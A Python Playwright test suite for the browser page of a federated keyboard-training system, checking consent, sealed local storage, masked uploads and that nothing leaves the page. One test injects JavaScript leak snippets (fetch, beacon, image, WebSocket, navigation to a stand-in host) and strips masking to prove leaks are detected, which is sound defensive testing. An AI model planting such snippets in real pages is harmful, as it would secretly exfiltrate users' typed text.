"""The page of a federation in a browser: consent, training on own text, a round; leaks are noticed."""

from __future__ import annotations

import json
import re
import threading
import time
import zlib
from collections.abc import Callable, Mapping, Sequence
from contextlib import suppress
from dataclasses import replace
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from safetensors.numpy import load

from keyfed import __version__
from keyfed.deploy.certificates import SERVER_CERT, make_certificates
from keyfed.deploy.homes import ServerHome
from keyfed.deploy.links import FIELDS, make_links
from keyfed.deploy.processes import Processes
from keyfed.deploy.web import start_web
from keyfed.errors import KeyfedError
from keyfed.keyboard.endpoint import MODULE
from keyfed.keyboard.federated import write_federated
from keyfed.keyboard.serve import WEB
from keyfed.keyboard.site import files_of_site
from keyfed.private.secagg.keys import SIGNATURE_BYTES
from keyfed.run.plan import with_limits
from keyfed.run.remote.train import train_deployed
from keyfed.wire.joined import WEB_SOCKET, Joined, WebTransport
from keyfed.wire.messages import unpack
from keyfed.wire.pages import REASONS
from keyfed.wire.roster import Roster, is_page
from keyfed.wire.transport import Answer, Lost, Post, Transport
from tests.faults.deployed import QUICK, federation, small_config, vocabulary, write_texts
from tests.federation.stand_in import Caller

from .conftest import LOADED, Visit, browser_path
from .test_accessible import axe, findings
from .test_site import key_sum

sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
expect = sync_api.expect
MOST_PACKED = 0.97  # of a masked vector's bytes that are left when it is packed; random ones do not get smaller
SGD = {"optimiser": "sgd", "lr": 0.5, "clip": 0.5, "epochs": 2, "batch_size": 3}
ALLOWED = {f"/federation/{path}" for path in ("about", "enrol", "next", "answer", "leave")}


class Server:
    """The endpoint for pages as `keyfed server --web` runs it, with the page of a federation."""

    def __init__(self, processes: Processes, root: Path, export: Path) -> None:
        self.home = ServerHome(root / "server")
        make_certificates(self.home.path, [])
        written = write_federated(export, root / "site")
        self.hash = written.hash
        self.address = start_web(processes, self.home, "127.0.0.1", 0, MODULE, written.folder, None) + "/"
        self.files = {f"/{path}" for path in files_of_site(written.folder)} | {"/"}
        self.web = WebTransport(self.home.path / WEB_SOCKET)

    def link(self) -> str:
        return f"join={make_links(self.home)[0]}"


class Recorded:
    """A transport that keeps what one client answers."""

    def __init__(self, transport: Transport, name: str) -> None:
        self.transport, self.name = transport, name
        self.answers: list[tuple[str, Answer]] = []

    def clients(self) -> Sequence[str]:
        return self.transport.clients()

    def exchange(self, posts: Mapping[str, Post], seconds: float) -> Mapping[str, Answer]:
        found = self.transport.exchange(posts, seconds)
        self.answers += [(posts[self.name].kind, found[self.name])] if self.name in found else []
        return found

    def uploads(self) -> list[Any]:
        """The masked vectors that came."""
        sent = [body for kind, body in self.answers if kind == "upload" and isinstance(body, bytes)]
        return [load(unpack(body)[1][:-SIGNATURE_BYTES])["masked"] for body in sent]

    def unmasked(self) -> list[str]:
        """What should be masked and is not: masked bytes look random, and cannot be packed."""
        shares = [len(zlib.compress(one.tobytes(), 9)) / one.nbytes for one in self.uploads()]
        return [f"{share:.2f} when packed" for share in shares if share < MOST_PACKED]


@pytest.fixture(scope="module")
def server(exported, tmp_path_factory):
    for package in ("starlette", "uvicorn"):
        pytest.importorskip(package)
    root = tmp_path_factory.mktemp("federated")
    with Processes(root) as processes:
        yield Server(processes, root, exported)


@pytest.fixture(scope="module")
def trusting(browser, server):
    """A browser that trusts the server's certificate."""
    trust = f"--ignore-certificate-errors-spki-list={key_sum(server.home.path / SERVER_CERT)}"
    started = browser.browser_type.launch(executable_path=browser_path(), args=["--no-sandbox", trust])
    yield started
    started.close()


@pytest.fixture(scope="module")
def member(trusting, server):
    """A page whose owner agrees, types and joins; the tests are steps of one visit."""
    one = Visit(trusting, server)
    one.page.goto(f"{server.address}#{server.link()}")
    one.wait("ready")
    yield one
    assert one.problems == []
    one.close()


def note(member: Visit) -> Any:
    return member.page.locator("#federated-note")


def kept(member: Visit) -> Any:
    return member.page.locator("#panel-body dd").first


def test_before_consent_nothing_is_kept_and_no_server_is_asked(member, server):
    assert member.page.url == server.address  # without the token
    member.type("good morning everybody\nthank you very much\n")
    member.page.wait_for_timeout(300)
    assert member.page.evaluate("indexedDB.databases()") == []
    assert "keyfed.federated" not in member.page.evaluate("Object.keys(localStorage)")
    assert [url for url in member.requests if "/federation/" in url] == []
    member.panel()
    expect(member.page.locator("#join")).to_be_disabled()
    expect(member.page.get_by_label("Federation", exact=True)).to_contain_text(f"hash {server.hash}")
    member.close_panel()


def test_with_consent_what_is_typed_is_kept_sealed_and_can_be_seen(member):
    """Typed lines are kept, encrypted; what stood there before, what was pasted and what is typed incognito is not."""
    member.panel()
    member.page.locator("input[name=consent]").check()
    expect(kept(member)).to_have_text("0 lines of at most 4,000")
    member.close_panel()
    member.type("goodbye everybody from here\n")
    member.set("incognito", True)
    member.type("my secret sister likes mountains\n")
    member.set("incognito", False)
    member.page.evaluate(PASTE, "pasted words of others\n")
    member.type("we feel happy about the weather\nno\n")
    member.panel()
    expect(kept(member)).to_have_text("2 lines of at most 4,000")
    member.page.click("#show-lines")
    expect(member.page.locator("#kept-lines .word")).to_have_text(
        ["we feel happy about the weather", "goodbye everybody from here"]
    )
    stored = member.page.evaluate(STORED)
    assert stored["records"] == 2
    assert [word for word in ("goodbye", "happy", "secret", "pasted") if word in stored["bytes"]] == []
    assert stored["readable"] == []
    member.page.get_by_label("Forget this line").first.click()
    expect(kept(member)).to_have_text("1 lines of at most 4,000")
    member.close_panel()


PASTE = """(text) => {
  const area = document.getElementById('text'), clipboardData = new DataTransfer();
  clipboardData.setData('text/plain', text);
  area.dispatchEvent(new ClipboardEvent('paste', {clipboardData, bubbles: true, cancelable: true}));
  area.setRangeText(text, area.selectionStart, area.selectionEnd, 'end');
  area.dispatchEvent(new InputEvent('input', {inputType: 'insertFromPaste', bubbles: true}));
  return new Promise((done) => setTimeout(done, 50));
}"""
STORED = """async () => {
  const database = await new Promise((done) => {
    const request = indexedDB.open('keyfed.federated');
    request.onsuccess = () => done(request.result);
  });
  const all = async (store, what = 'getAll') => new Promise((done) => {
    const request = database.transaction(store).objectStore(store)[what]();
    request.onsuccess = () => done(request.result);
  });
  const records = await all('text'), keys = [...await all('page'), ...(await all('client')).map((value) => value?.key)];
  const readable = await Promise.all(keys.filter((key) => key instanceof CryptoKey).map((key) =>
    crypto.subtle.exportKey(key.type === 'private' ? 'pkcs8' : 'raw', key).then(() => key.type, () => null)));
  const bytes = records.map(({sealed}) => new TextDecoder('latin1').decode(sealed)).join(' ');
  const names = {page: await all('page', 'getAllKeys'), client: await all('client', 'getAllKeys')};
  database.close();
  return {records: records.length, readable: readable.filter(Boolean), keys: readable.length, bytes, names};
}"""


def test_tuning_changes_the_strip_without_a_reload_sends_nothing_and_is_undone(member, server):
    """A line that the model knows nothing of, typed often: after tuning its words come first; undone, they do not."""
    member.page.locator("#text").fill("")
    member.page.keyboard.insert_text("weather likes school mountains\n" * 24)
    member.set("source", "network")
    before = after_words(member, "weather ", "likes")
    member.requests.clear()
    member.panel()
    member.page.click("#tune")
    expect(member.page.locator("#looked")).to_contain_text(
        "of your held-back words among the first three", timeout=LOADED
    )
    expect(note(member)).to_have_text("The strip is of your own model now. Nothing was sent.")
    member.close_panel()
    tuned = after_words(member, "weather ", "likes")
    assert (before, tuned) == (False, True)
    assert [url for url in member.requests if "/federation/" in url] == []
    member.reload()
    assert after_words(member, "weather ", "likes") is True
    member.panel()
    member.page.click("#undo")
    member.close_panel()
    assert after_words(member, "weather ", "likes") is False


def after_words(member, typed, word):
    """Whether the strip offers a word, without what this person uses often."""
    member.page.locator("#text").fill("")
    member.press("Enter")
    member.type(typed)
    member.page.wait_for_timeout(500)
    return word in member.shown()


# ---------------------------------------------------------------- a round, and what leaves the page


def outside(visit: Visit, server: Server) -> list[str]:
    """Return every request of a page that is none for the page's own files or for the endpoint."""
    own = {f"{server.address.rstrip('/')}{path}" for path in server.files | ALLOWED}
    return [url for url in visit.requests if url not in own]


class Heard:
    """What a page says to the endpoint: path, headers and body of every request."""

    def __init__(self, visit: Visit) -> None:
        self.requests: list[tuple[str, dict[str, str], bytes]] = []
        visit.context.on("request", self._heard)

    def _heard(self, request: Any) -> None:
        path = request.url.partition("/federation/")[2]
        if path:
            self.requests.append((path, request.headers, request.post_data_buffer or b""))

    def more(self, text: str, reasons: set[str]) -> list[str]:
        """Return what is said beyond the protocol: a header, a body, another reason, words of a text."""
        words = text.lower().split()
        secrets = {f"{a} {b}".encode() for a, b in pairwise(words)}
        secrets |= {secret.hex().encode() for secret in secrets}
        found = []
        for path, headers, body in self.requests:
            said = {name: value for name, value in headers.items() if name.startswith("keyfed") or name in STRANGE}
            reason, error = said.pop("keyfed-reason", None), said.pop("keyfed-error", None)
            found += [f"{path}: {name}" for name in said.keys() - SPOKEN[path]]
            found += [f"{path}: keyfed-reason {reason}"] if reason is not None and reason not in reasons else []
            found += [f"{path}: {error}"] if error is not None and (path != "answer" or error not in REASONS) else []
            if path == "enrol":
                found += [] if json.loads(body).keys() == FIELDS else [f"{path}: other fields"]
            elif path == "answer" and error is None:
                head = unpack(body)[0] if body else None
                found += [] if head is not None and head.keys() <= HEADS else [f"{path}: {head}"]
            elif body:
                found.append(f"{path}: a body")
            raw = b"\n".join([*(value.encode() for value in headers.values()), body]).lower()
            found += [f"{path}: {secret!r}" for secret in secrets if secret in raw]
        return found


STRANGE = {"cookie", "x-leak"}
SPOKEN: dict[str, set[str]] = {
    "about": set(), "enrol": set(), "next": {"keyfed-sum", "keyfed-id"}, "answer": {"keyfed-sum", "keyfed-id"},
    "leave": {"keyfed-sum"},
}  # fmt: skip
HEADS = {
    "run", "round", "attempt", "parcels", "keys", "shares", "accuses", "evidence", "proof", "hide_among", "step",
    "name",
}  # fmt: skip
NOT_SENT = "the page's owner did not send this upload"


class Said:
    """A listener that hears nothing."""

    def say(self, line: str) -> None: ...
    def start(self, *given: Any) -> None: ...
    def round(self, *given: Any) -> None: ...


def federate(
    server: Server, visit: Visit, name: str, folder: Path, rounds: int, look: Callable[[Recorded], object]
) -> tuple[dict[str, Any], Recorded]:
    """Run a secure federation of four Python clients and the page; return its result, and what the page answered.

    Args:
      look: called now and then.
    """
    files = write_texts(folder / "texts", 5)
    vocab, path = vocabulary(folder)
    config = small_config(folder / "texts", path, "fedavg", secure=True, rounds=rounds, cohort=5, **SGD)
    others, roster = federation(folder / "clients", files[1:], named=lambda path: path.name)
    roster.write({name: Roster(server.home.roster).entries[name]})
    joined = Joined(others, server.web, lambda client: is_page(roster.entries[client]))
    recorded, found = Recorded(joined, name), {}

    def run() -> None:
        given = with_limits(config), vocab, folder / "run", recorded, roster, Said()
        with suppress(KeyfedError):  # a run whose sums do not open
            found.update(train_deployed(*given, patience=replace(QUICK, answer=30, quorum=5)))

    thread = threading.Thread(target=run)
    thread.start()
    for _ in range(600):
        visit.page.wait_for_timeout(100)  # its events are heard meanwhile
        look(recorded)
        if not thread.is_alive():
            break
    thread.join(1)
    return found, recorded


def join(server: Server, visit: Visit, name: str, folder: Path) -> None:
    """Type what the fifth client has, and join."""
    visit.page.locator("#text").fill("")
    visit.press("Enter")
    visit.page.keyboard.insert_text(write_texts(folder / "texts", 5)[0].read_text())
    visit.page.evaluate("(hash) => { location.hash = hash; }", server.link())
    visit.panel()
    visit.page.fill("#client-name", name)
    visit.page.click("#join")
    expect(visit.page.locator("#rounds-note")).to_contain_text("waits for a round", timeout=LOADED)


def test_it_takes_part_and_only_masked_sums_leave(member, server, tmp_path):
    """Two rounds with four Python clients; the final model comes, is looked at, and is in the strip."""
    heard = Heard(member)
    join(server, member, "tab", tmp_path)
    expect(note(member)).to_have_text("Joined as tab.")
    member.page.locator("input[name=preview]").check()
    previews: list[str] = []

    def decide(recorded: Recorded) -> None:
        """Look at every upload before it is sent; forget lines at the second, and do not send the fourth."""
        if not member.page.locator("#send").is_visible():
            return
        previews.append(member.page.text_content("#sent"))
        looked_at = sum(n in (1, 3, 5) for n in range(1, len(previews)))
        assert len(recorded.uploads()) == looked_at, "nothing is sent before it is looked at"
        if len(previews) == 2:
            forget_lines(member, 10)
        else:
            member.page.click("#send" if len(previews) != 4 else "#do-not-send")
        expect(member.page.locator("#send")).to_be_hidden()

    found, recorded = federate(server, member, "tab", tmp_path, 2, decide)
    assert [found["rounds"], found["abandoned"]] == [2, 0]
    assert len(recorded.uploads()) == 3  # calibration, the second round, the test
    lost = [answer for _, answer in recorded.answers if isinstance(answer, Lost)]
    assert [(one.reason, one.detail) for one in lost] == [("not now", NOT_SENT)] * 2
    assert recorded.answers[-1][0] == "bye"
    assert all("waits for your word" in preview for preview in previews)
    assert "round 1, calibration" in previews[0]
    assert "round 2, upload" in previews[2]
    trained = [int(re.search(r"Trained on([0-9]+) tokens", previews[n])[1]) for n in (0, 1, 2)]
    assert trained[0] == trained[1] > trained[2] + 20  # what was forgotten is trained no more
    assert recorded.uploads()[-1].tobytes()[:16].hex() in previews[-1]  # what was shown is what was sent
    assert recorded.unmasked() == []
    assert outside(member, server) == []
    assert heard.more((tmp_path / "texts").joinpath("client-0.txt").read_text(), {NOT_SENT}) == []
    assert {path for path, _, _ in heard.requests} == {"about", "enrol", "next", "answer"}
    expect(member.page.locator("#sent")).to_contain_text("5 clients; the sum opens with")
    said = "1 run without differential privacy, of which no ε is claimed"
    expect(member.page.get_by_label("Federation", exact=True)).to_contain_text(said)
    expect(note(member)).to_have_text("The strip is of the federation's model now (its final model).", timeout=LOADED)
    assert "cat" in words_after(member, "the ")  # of the run's vocabulary; the model that the page came with has none
    assert [key for key in member.page.evaluate(STORED)["names"]["client"] if key == "identity"]


def forget_lines(member: Visit, count: int) -> None:
    """Forget the newest lines, at one stroke: each ends what is being made of the text."""
    member.page.click("#show-lines")
    lines = member.page.locator("#kept-lines li")
    lines.first.wait_for()
    before = lines.count()
    clicks = "n => [...document.querySelectorAll('#kept-lines li button')].slice(0, n).forEach((one) => one.click())"
    member.page.evaluate(clicks, count)
    expect(lines).to_have_count(before - count)


def words_after(member: Visit, typed: str) -> list[str]:
    """Return what the strip offers after a text, and while its first letter is typed."""
    member.close_panel()
    member.page.locator("#text").fill("")
    member.press("Enter")
    found = []
    for key in (*typed, "c"):
        member.type(key)
        member.page.wait_for_timeout(150)
        found += member.shown()
    return found


def filled(**given: Any) -> Callable[[Any], None]:
    """A route that answers in the server's place."""
    return lambda route: route.fulfill(**given)


def test_what_goes_wrong_is_said_in_one_line(member, server):
    member.panel()
    used = server.link()
    Caller(server.address, server.home.ca).enrol(used.removeprefix("join="))
    for fragment, says in {
        "join=short": "This link is damaged: ask for a new one.",
        f"{used}&server=https://elsewhere.test": f"and this page may speak to {server.address.rstrip('/')}",
    }.items():
        member.page.evaluate("(hash) => { location.hash = hash; }", fragment)
        expect(note(member)).to_contain_text(says)
        assert "#" not in member.page.url
    member.page.click("#stop-rounds")
    expect(note(member)).to_have_text("Stopped: this page does not take part.")
    member.page.evaluate("(hash) => { location.hash = hash; }", used)
    member.page.click("#join")
    expect(note(member)).to_have_text("This link is used, expired or wrong: ask for a new one.")
    about = {"format": "keyfed-web-1", "page": {"version": __version__, "hash": server.hash}, "enrolling": True}
    for change, says in [
        ({"page": {"version": "9.9.9", "hash": "0"}}, "the server of 9.9.9: reload the page, or get it again."),
        ({"format": "keyfed-web-9"}, "The server speaks another protocol than this page"),
        ({"now": time.time() + 300}, "seconds slow; the server's is used."),
    ]:
        member.context.route("**/federation/about", filled(json={**about, "now": time.time(), **change}))
        member.page.click("#go")
        expect(note(member)).to_contain_text(says)
        member.page.click("#stop-rounds")
        member.context.unroute("**/federation/about")
    member.context.route("**/federation/*", lambda route: route.abort())
    member.page.click("#go")
    expect(member.page.locator("#rounds-note")).to_contain_text(
        "The server is away (the server does not answer); tried again"
    )
    member.context.unroute("**/federation/*")
    expect(member.page.locator("#rounds-note")).to_have_text("Takes part: waits for a round.")
    member.problems.clear()  # the browser's lines on requests that failed


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_nothing_serious_in_the_panel(member, scheme):
    """Under axe-core, with lines, an upload and a link on show."""
    member.page.evaluate(axe.AXE_SCRIPT)
    member.page.emulate_media(color_scheme=scheme)
    if member.page.locator("#kept-lines").is_hidden():
        member.page.click("#show-lines")
    member.page.locator("#kept-lines li").first.wait_for()
    assert member.page.locator("#join").is_visible()
    assert member.page.locator("#sent").is_visible()
    assert findings(member) == []


def test_stop_leave_and_forget(member, server):
    member.page.click("#leave")
    member.page.click("#leave")
    expect(note(member)).to_contain_text("the server has taken this page off its roster")
    assert Roster(server.home.roster).entries["tab"].revoked
    member.page.click("#forget-kept")
    member.page.click("#forget-kept")
    expect(kept(member)).to_have_text("0 lines of at most 4,000")
    stored = member.page.evaluate(STORED)
    assert (stored["records"], stored["names"]["client"]) == (0, [])
    assert not {"tuned", "client"} & set(stored["names"]["page"])
    member.requests.clear()
    member.page.wait_for_timeout(1_500)
    assert member.requests == []
    member.page.locator("input[name=consent]").uncheck()
    member.close_panel()
    member.type("nothing of this is kept\n")
    member.panel()
    expect(note(member)).to_contain_text("Nothing more is kept or trained.")
    assert member.page.evaluate(STORED)["records"] == 0


def test_what_one_tab_forgets_another_does_not_train_on(member, server):
    """The other tab forgets the lines, the key they were sealed with, and what stands in its field."""
    if not member.page.locator("#panel.open").count():
        member.panel()
    member.page.locator("input[name=consent]").check()
    member.page.click("#forget-kept")
    member.page.click("#forget-kept")
    expect(kept(member)).to_have_text("0 lines of at most 4,000")
    second = member.context.new_page()
    second.goto(server.address)
    second.locator("html[data-state=ready]").wait_for(state="attached")
    second.focus("#text")
    second.keyboard.press("Control+a")
    second.keyboard.type("we feel happy today\nof this no line is kept")
    expect(second.locator("#panel-body dd").first).to_have_text("1 lines of at most 4,000")
    member.page.click("#forget-all")
    member.page.click("#forget-all")
    expect(kept(member)).to_have_text("0 lines of at most 4,000")
    expect(second.locator("#panel-body dd").first).to_have_text("0 lines of at most 4,000")
    second.keyboard.type("\ngood morning to all\n")
    expect(second.locator("#panel-body dd").first).to_have_text("1 lines of at most 4,000")
    member.page.click("#show-lines")
    expect(member.page.locator("#kept-lines .word")).to_have_text(["good morning to all"])
    second.close()
    member.page.locator("input[name=consent]").uncheck()
    member.close_panel()


TYPED = "document.getElementById('text').addEventListener('input', ({target: {value}}) => {"
LEAKS = {  # in federated/page.mjs, when its name is typed; the worker's goes to the page's own server
    "fetch": "fetch('ELSEWHERE?fetch', {mode: 'no-cors'}).catch(() => 0)",
    "image": "new Image().src = 'ELSEWHERE?image'",
    "beacon": "navigator.sendBeacon('ELSEWHERE?beacon', value)",
    "socket": "new WebSocket('ELSEWHERE?socket'.replace('https', 'wss'))",
    "query": "fetch('/federation/about?query=' + value.length).catch(() => 0)",
    "away": "location.href = 'ELSEWHERE?away'",
}
PLAIN = [  # in secure/member.mjs: no mask is added
    ("await addMask(sent, await pairKey", "void (sent, await pairKey"),
    ("await addMask(sent, await selfKey", "void (sent, await selfKey"),
]


def test_every_leak_is_noticed(trusting, server, tmp_path):
    """The checks above are worth it: without its policy a page that leaks fails them, in whatever way it does."""
    leaky = Visit(trusting, server, bypass_csp=True)
    heard = Heard(leaky)
    elsewhere = server.address.replace("127.0.0.1", "localhost")
    leaks = [f"{TYPED} if (value.endsWith('{name}')) {{ {leak}; }} }});" for name, leak in LEAKS.items()]
    changes = {
        "federated/page.mjs": [("const about =", "\n".join([*leaks, "const about ="]).replace("ELSEWHERE", elsewhere))],
        "secure/member.mjs": PLAIN,
        "federated/text.mjs": [("  async add(lines) {", "  async add(lines) {\n    self.leak = btoa(lines[0]);")],
        "federated/endpoint.mjs": [
            ('"keyfed-sum": sum,', '"keyfed-sum": sum, ...(self.leak && { "keyfed-reason": self.leak }),')
        ],
    }
    for path, replaced in changes.items():
        text = (WEB / path).read_text("utf-8")
        for old, new in replaced:
            assert text.count(old) == 1
            text = text.replace(old, new)
        leaky.context.route(f"**/{path}", filled(body=text, content_type="text/javascript"))
    leaky.page.goto(server.address)
    leaky.wait("ready")
    leaky.panel()
    leaky.page.locator("input[name=consent]").check()
    leaky.close_panel()
    join(server, leaky, "leaky", tmp_path)
    assert outside(leaky, server) == []
    _, recorded = federate(server, leaky, "leaky", tmp_path, 1, lambda recorded: None)
    assert recorded.unmasked()
    assert any("keyfed-reason" in line for line in heard.more("", set()))
    leaky.close_panel()
    for name in LEAKS:
        leaky.page.locator("#text").fill("")
        leaky.type(name)
        leaky.page.wait_for_timeout(300)
    noticed = outside(leaky, server)
    leaky.close()
    assert [name for name in LEAKS if not any(name in request for request in noticed)] == []
